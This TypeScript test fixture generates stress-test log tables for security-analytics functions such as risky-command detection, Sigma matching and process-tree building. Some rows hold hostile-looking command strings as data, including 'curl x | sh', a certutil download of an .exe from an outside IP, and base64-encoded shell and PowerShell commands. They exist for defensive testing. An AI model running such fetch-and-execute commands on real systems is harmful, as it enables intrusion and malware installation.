import buildLogonSessions from '../../../functions/build/logon-sessions.ts';
import buildNetworkGraph from '../../../functions/build/network-graph.ts';
import buildProcessTree from '../../../functions/build/process-tree.ts';
import buildSessions from '../../../functions/build/sessions.ts';
import detectCommandBursts from '../../../functions/detect/command-bursts.ts';
import detectLogTemplates from '../../../functions/detect/log-templates.ts';
import detectRareSequences from '../../../functions/detect/rare-sequences.ts';
import detectRiskyCommands from '../../../functions/detect/risky-commands.ts';
import detectSigmaMatches from '../../../functions/detect/sigma-matches.ts';
import maskRows from '../../../functions/mask/rows.ts';
import parseTimes from '../../../functions/parse/times.ts';
import queryProcessTree from '../../../functions/query/process-tree.ts';
import type { Operation } from '../../../shared/kit/operation.ts';
import type { Row } from '../../../shared/kit/report.ts';
import { memoryBlobs } from '../../support/memory-blobs.ts';
import { testPorts } from '../../support/ports.ts';
import { runIn } from '../../support/run.ts';
import type { Hostile } from './hostile.ts';

/** A row from its number and the number of all. */
type Maker = (index: number, count: number) => Row;

/** Rows of about `bytes` bytes in all, as JSON lines. */
export const jsonLines = (bytes: number, make: Maker): string => {
  const each = JSON.stringify(make(1, 1000)).length + 1;
  const count = Math.max(2, Math.ceil(bytes / each));
  return Array.from({ length: count }, (_, index) => JSON.stringify(make(index, count))).join('\n');
};

/** The whole way of an operation: from a stored table of JSON lines to its report. */
export const overTable = (reader: string, operation: Operation, input: object, shapes: Readonly<Record<string, Maker>>): Hostile[] =>
  Object.entries(shapes).map(([shape, make]) => ({
    reader,
    shape,
    prepare: (bytes) => {
      const ports = testPorts({ blobs: memoryBlobs({ table: jsonLines(bytes, make) }, 65_536) });
      return async () => (await runIn(operation, { blob: 'table', format: 'jsonl', ...input }, ports)).count;
    },
  }));

const at = (seconds: number): string => new Date(1_709_510_400_000 + seconds * 1000).toISOString();
const long = (index: number, unit = 'a'): string => unit.repeat(1000) + String(index);

const linux: Row = { EventType: 'SYSCALL_EXECVE', TimeGenerated: at(0), Computer: 'h', exe: '/bin/sh', cmdline: 'sh' };
const windows: Row = { EventID: 4688, Computer: 'h', NewProcessName: 'C:\\a.exe', ParentProcessName: 'C:\\a.exe', CommandLine: 'a' };
const endpoint: Row = { DeviceName: 'h', ActionType: 'ProcessCreated', FileName: 'a.exe', InitiatingProcessFileName: 'a.exe', InitiatingProcessParentFileName: 'a.exe' };
const processes: Readonly<Record<string, Maker>> = {
  'a deep chain': (index) => ({ ...linux, TimeGenerated: at(index), pid: index + 1, ppid: index }),
  'a chain backwards': (index, count) => ({ ...linux, TimeGenerated: at(index), pid: count - index, ppid: count - index - 1 }),
  'a wide fan': (index) => ({ ...linux, TimeGenerated: at(index), pid: index + 2, ppid: 1 }),
  'a circle at one time': (index, count) => ({ ...linux, pid: index, ppid: (index + 1) % count }),
  'one id again and again': (index) => ({ ...linux, TimeGenerated: at(index), pid: 7, ppid: 7 }),
  'equal times': (index) => ({ ...linux, pid: index, ppid: index >> 1 }),
  'the same event again and again': () => ({ ...linux, pid: 7, ppid: 6 }),
  'a host each': (index) => ({ ...linux, Computer: `h${index}`, pid: 1, ppid: 0 }),
  'parents that are never seen': (index) => ({ ...windows, TimeGenerated: at(index), NewProcessId: `0x${index}`, ProcessId: `0x9${index}`, ParentProcessName: `C:\\${index}.exe` }),
  'a chain by name': (index) => ({ ...windows, TimeGenerated: at(index), NewProcessId: `0x${index + 1}`, ProcessId: `0x${index}` }),
  'circles by key': (index, count) => ({ ...endpoint, Timestamp: at(index), ProcessId: index, InitiatingProcessId: (index + 1) % count, InitiatingProcessCreationTime: at((index + 1) % count), InitiatingProcessParentId: index, InitiatingProcessParentCreationTime: at(index) }),
  'long names with many marks': (index) => ({ ...linux, TimeGenerated: at(index), pid: index + 1, ppid: index, exe: long(index, '/'), cmdline: long(index, 'ab-') }),
};

const hidden = (index: number): string => `sh -c ${Buffer.from(`echo ${index} some text that is long enough`).toString('base64')}`;
const commands: Readonly<Record<string, Maker>> = {
  'one word again and again': (index) => ({ TimeGenerated: at(index), Command: `${'wget '.repeat(200)}${index}` }),
  'base64 everywhere': (index) => ({ TimeGenerated: at(index), Command: hidden(index) }),
  'long runs of letters': (index) => ({ TimeGenerated: at(index), Command: long(index) }),
  'equal times': () => ({ TimeGenerated: at(0), Command: 'curl x | sh' }),
  backwards: (index) => ({ TimeGenerated: at(-index), Command: 'id' }),
};

const sigmaRows: Readonly<Record<string, Maker>> = {
  'long command lines': (index) => ({ Image: 'C:\\Windows\\System32\\rundll32.exe', CommandLine: long(index, 'rundll32 ') }),
  'hidden commands': (index) => ({ Image: 'powershell.exe', CommandLine: `powershell -enc ${Buffer.from(long(index), 'utf16le').toString('base64')}`, ScriptBlockText: long(index, "'+'") }),
  'many columns': (index) => Object.fromEntries(Array.from({ length: 200 }, (_, column) => [`c${column}`, index + column])),
  'everything matches': (index) => ({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: `certutil.exe -urlcache -f http://198.51.100.7/${index}.exe a.exe` }),
};

const opened = 'pam_unix(sudo:session): session opened for user root by ana(uid=0)';
const closed = 'pam_unix(sudo:session): session closed for user root';
const logons: Readonly<Record<string, Maker>> = {
  'opened only': (index) => ({ TimeGenerated: at(index), Sudoer: 'ana', SyslogMessage: opened }),
  'closed at the end': (index, count) => ({ TimeGenerated: at(index), Sudoer: 'ana', SyslogMessage: index * 2 < count ? opened : closed }),
  'equal times': (index) => ({ TimeGenerated: at(0), Sudoer: 'ana', SyslogMessage: index % 2 ? closed : opened }),
  'a host each': (index) => ({ TimeGenerated: at(-index), Computer: `h${index}`, Sudoer: `u${index}`, SyslogMessage: opened }),
};

const masked: Readonly<Record<string, Maker>> = {
  'long cells': (index) => ({ Account: long(index), Computer: long(index, 'a.'), IpAddress: long(index, '1.'), Location: long(index) }),
  'colons and dots': (index) => ({ IpAddress: `${'1:'.repeat(30)}${index}`, Account: long(index, '@'), SubjectUserSid: `S-1-5-21${'-1'.repeat(90)}-${index}` }),
  'deep records': (index) => ({ DeviceDetail: `${'{"a":['.repeat(200)}${index}${']}'.repeat(200)}` }),
  'lists': (index) => ({ ConditionalAccessPolicies: JSON.stringify(Array.from({ length: 200 }, (_, item) => item + index)) }),
  'many columns': (index) => Object.fromEntries(Array.from({ length: 100 }, (_, column) => [`c${index}_${column}`, column])),
};

const flows: Readonly<Record<string, Maker>> = {
  'all different': (index) => ({ a: `s${index}`, b: `t${index}`, c: index }),
  'one node with all': (index) => ({ a: 's', b: `t${index}`, c: index }),
  'one edge': (index) => ({ a: 's', b: 't', c: index }),
  'chain': (index) => ({ a: index, b: index + 1, c: long(index) }),
};

const messages: Readonly<Record<string, Maker>> = {
  'all different words': (index) => ({ TimeGenerated: at(index), Message: `w${index.toString(36)}x ${'ab '.repeat(60)}` }),
  'all different lengths': (index) => ({ TimeGenerated: at(index), Message: 'ab '.repeat(index % 300) }),
  'letters only': (index) => ({ TimeGenerated: at(index), Message: Array.from(String(index), (digit) => 'abcdefghij'[Number(digit)]!).join(' ') }),
  'brackets': (index) => ({ TimeGenerated: at(index), Message: `${'['.repeat(190)}1${'.1'.repeat(3)} ${'('.repeat(190)}${index}` }),
};

const operations: Readonly<Record<string, Maker>> = {
  'all different': (index) => ({ User: 'u', Operation: `o${index}`, TimeGenerated: at(index) }),
  'one session': (index) => ({ User: 'u', Operation: `o${index % 7}`, TimeGenerated: at(index / 1000) }),
  'a user each': (index) => ({ User: `u${index}`, Operation: 'o', TimeGenerated: at(0) }),
};

const times: Readonly<Record<string, Maker>> = {
  'long fractions': (index) => ({ Time: `2024-03-04T10:00:00.${'1'.repeat(500)}${index}Z` }),
  'odd texts': (index) => ({ Time: `Mar ${' '.repeat(50)}${index}`, StartTime: long(index, ' ') }),
  'a column each': (index) => ({ [`time${index}`]: at(index) }),
};

const sequence = { keyColumns: ['User'], commandColumn: 'Operation' };

export const tables: readonly Hostile[] = [
  ...overTable('process tree', buildProcessTree, { keep: false }, processes),
  ...overTable('process tree kept', buildProcessTree, { keep: true }, { 'a deep chain': processes['a deep chain']! }),
  ...overTable('process tree as text', queryProcessTree, { form: 'text' }, processes),
  ...overTable('process tree as JSON', queryProcessTree, { form: 'json', rarity: true }, { 'a deep chain': processes['a deep chain']!, 'a wide fan': processes['a wide fan']! }),
  ...overTable('risky commands of a table', detectRiskyCommands, { decode: 'all' }, commands),
  ...overTable('command bursts of a table', detectCommandBursts, { keyColumns: ['Command'] }, commands),
  ...overTable('Sigma of a table', detectSigmaMatches, {}, sigmaRows),
  ...overTable('logon sessions', buildLogonSessions, {}, logons),
  ...overTable('masking', maskRows, { key: 'a key for proofs, not secret' }, masked),
  ...overTable('masking by delimiters', maskRows, { method: 'plain', columns: { Account: '@-/', Computer: '.' } }, masked),
  ...overTable('network graph', buildNetworkGraph, { sourceColumn: 'a', targetColumn: 'b', sourceAttributes: ['c'], targetAttributes: ['c'], edgeAttributes: ['c'] }, flows),
  ...overTable('log templates', detectLogTemplates, { textColumn: 'Message', most: 1000 }, messages),
  ...overTable('sessions of events', buildSessions, sequence, operations),
  ...overTable('rare sequences', detectRareSequences, { ...sequence, most: 100 }, operations),
  ...overTable('times', parseTimes, {}, times),
];
